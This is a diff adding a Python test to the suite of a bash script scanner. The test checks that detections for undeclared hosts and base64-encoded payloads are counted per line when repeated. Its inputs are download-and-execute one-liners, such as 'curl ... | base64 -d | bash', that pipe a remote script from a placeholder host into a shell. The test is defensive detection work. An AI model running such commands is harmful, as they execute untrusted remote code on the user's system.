@@ -387,3 +387,10 @@ def test_repeats_are_not_replayed_past_the_node_budget(
     monkeypatch.setattr(shell, "MAX_VISITED", 3)  # the first statement uses it all up
     found = scan_bash("curl -s https://setup.example.net/a | sh\n" * 5, policy)
     assert [(d.rule_id, d.line, d.more) for d in found] == [(UNDECLARED, 1, 0)]
+
+
+def test_repeats_with_two_rules_count_each(policy: HostPolicy) -> None:
+    found = scan_bash("curl -s https://setup.example.net/p | base64 -d | bash\n" * 30, policy)
+    for rule in (UNDECLARED, ENCODED):
+        mine = [d for d in found if d.rule_id == rule]
+        assert [d.line for d in mine] == list(range(1, 21)) and mine[-1].more == 10
